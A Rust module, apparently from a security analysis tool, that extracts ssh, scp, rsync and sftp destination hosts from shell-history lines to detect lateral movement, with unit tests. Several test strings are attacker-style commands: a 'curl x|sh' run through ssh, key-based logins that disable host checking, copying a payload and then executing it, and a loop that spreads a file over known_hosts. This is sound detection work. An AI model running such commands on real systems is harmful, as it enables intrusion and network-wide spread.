//! Where an `ssh`, `scp`, `rsync` or `sftp` command line goes: the destination host of each such
//! command (user and port stripped), for the lateral movement a fleet analysis draws from shell
//! histories. Variables (`$h`, `${host}`) name no host and are left out; a loop over `known_hosts`
//! is what `MT-LAT-001` reports.

use super::shell_line::simple_commands;

/// `ssh` options that take a value (OpenSSH 9), so their value is not taken for the destination.
const SSH_VALUE_OPTIONS: &[u8] = b"BbcDEeFIiJLlmOopQRSWw";
/// `scp`/`sftp` options that take a value.
const SCP_VALUE_OPTIONS: &[u8] = b"cDFiJloPSX";

/// Destination hosts named by the ssh-family commands of one line, in order, deduplicated.
pub fn targets(line: &[u8]) -> Vec<Vec<u8>> {
    let mut out: Vec<Vec<u8>> = Vec::new();
    for (cmd, args) in simple_commands(line) {
        let found = match cmd.as_slice() {
            b"ssh" => ssh_destination(&args).into_iter().collect(),
            b"scp" | b"sftp" | b"rsync" => copy_destinations(&cmd, &args),
            _ => Vec::new(),
        };
        for host in found.into_iter().filter_map(|d| host_of(&d)) {
            if !out.contains(&host) {
                out.push(host);
            }
        }
    }
    out
}

/// The first operand of `ssh` after its options.
fn ssh_destination(args: &[Vec<u8>]) -> Option<Vec<u8>> {
    let mut it = args.iter();
    while let Some(a) = it.next() {
        if a == b"--" {
            return it.next().cloned();
        }
        match a.strip_prefix(b"-") {
            Some(opts) if !opts.is_empty() => {
                // `-p22` carries its value; `-p 22` takes the next word.
                if let Some(pos) = opts.iter().position(|c| SSH_VALUE_OPTIONS.contains(c)) {
                    if pos + 1 == opts.len() {
                        it.next();
                    }
                }
            }
            _ => return Some(a.clone()),
        }
    }
    None
}

/// `host:path` operands of `scp`/`rsync`, and the operand of `sftp`.
fn copy_destinations(cmd: &[u8], args: &[Vec<u8>]) -> Vec<Vec<u8>> {
    let mut out = Vec::new();
    let mut it = args.iter();
    while let Some(a) = it.next() {
        if let Some(opts) = a.strip_prefix(b"-") {
            let takes_value = cmd != b"rsync"
                && opts
                    .last()
                    .is_some_and(|c| SCP_VALUE_OPTIONS.contains(c) && !opts.starts_with(b"-"));
            if takes_value {
                it.next();
            }
            continue;
        }
        if cmd == b"sftp" {
            out.push(a.clone());
            break;
        }
        // `host:path`, `user@host:path`, `[v6]:path`; a local path has no colon before its first slash.
        let bracket_end = a
            .windows(2)
            .position(|w| w == b"]:")
            .filter(|_| a.contains(&b'['))
            .map(|i| i + 1);
        let colon = bracket_end.or_else(|| a.iter().position(|b| *b == b':'));
        let slash = a.iter().position(|b| *b == b'/');
        if let Some(c) = colon {
            if slash.is_none_or(|s| c < s) && !a.starts_with(b"rsync://") {
                out.push(a.get(..c).unwrap_or_default().to_vec());
            }
        }
    }
    out
}

/// The host part of `[user@]host[:port]` or `[v6]`; `None` for variables, empty names and names
/// with characters a host name cannot hold.
fn host_of(dest: &[u8]) -> Option<Vec<u8>> {
    let at = dest.iter().rposition(|b| *b == b'@').map_or(0, |i| i + 1);
    let host = dest.get(at..)?;
    let host = match host.strip_prefix(b"[") {
        Some(v6) => v6.split(|b| *b == b']').next()?,
        None => host,
    };
    let ok = !host.is_empty()
        && host
            .iter()
            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'-' | b'_' | b':'));
    ok.then(|| host.to_ascii_lowercase())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn t(line: &str) -> Vec<String> {
        targets(line.as_bytes())
            .into_iter()
            .map(|h| String::from_utf8(h).unwrap())
            .collect()
    }

    #[test]
    fn ssh_destinations_skip_options() {
        assert_eq!(t("ssh root@10.0.0.7"), ["10.0.0.7"]);
        assert_eq!(
            t("ssh -i /tmp/.k -p 2222 -o StrictHostKeyChecking=no db-01 id"),
            ["db-01"]
        );
        assert_eq!(t("sudo ssh -p2222 -v admin@Web-02.corp"), ["web-02.corp"]);
        assert_eq!(t("ssh -- host3"), ["host3"]);
        assert!(t("ssh $h 'curl x|sh'").is_empty());
        assert!(t("ssh -V").is_empty());
    }

    #[test]
    fn copy_destinations_take_host_paths() {
        assert_eq!(
            t("scp -P 22 -i k /tmp/x root@10.0.0.8:/tmp/x && ssh 10.0.0.8 /tmp/x"),
            ["10.0.0.8"]
        );
        assert_eq!(t("rsync -az ./kit/ [fd00::9]:/opt/kit"), ["fd00::9"]);
        assert_eq!(t("sftp admin@backup"), ["backup"]);
        assert!(t("scp /tmp/a /tmp/b").is_empty());
        assert!(t("rsync -a rsync://mirror/x ./x").is_empty());
        assert!(t("for h in $(cat ~/.ssh/known_hosts); do scp x $h:/tmp; done").is_empty());
    }
}
